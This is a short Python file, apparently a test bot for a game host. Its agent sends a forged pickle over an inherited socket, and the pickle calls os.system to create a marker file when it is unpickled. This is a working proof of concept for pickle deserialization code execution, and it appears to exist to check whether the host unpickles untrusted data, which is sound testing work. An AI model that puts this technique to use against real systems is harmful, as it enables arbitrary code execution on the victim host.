"""Sends the host a pickle that would run code on unpickling."""

import os
import pickle
import socket


class Evil:
    def __reduce__(self):
        return (os.system, (f"touch {os.environ.get('MARKER', '/tmp/sixtysix-pwned')}",))


class PipeForger:
    def act(self, info, rng):
        sock = socket.socket(fileno=3)
        sock.send(pickle.dumps(("action", Evil(), 0.0)))
        sock.detach()
        return info.legal_actions()[0]
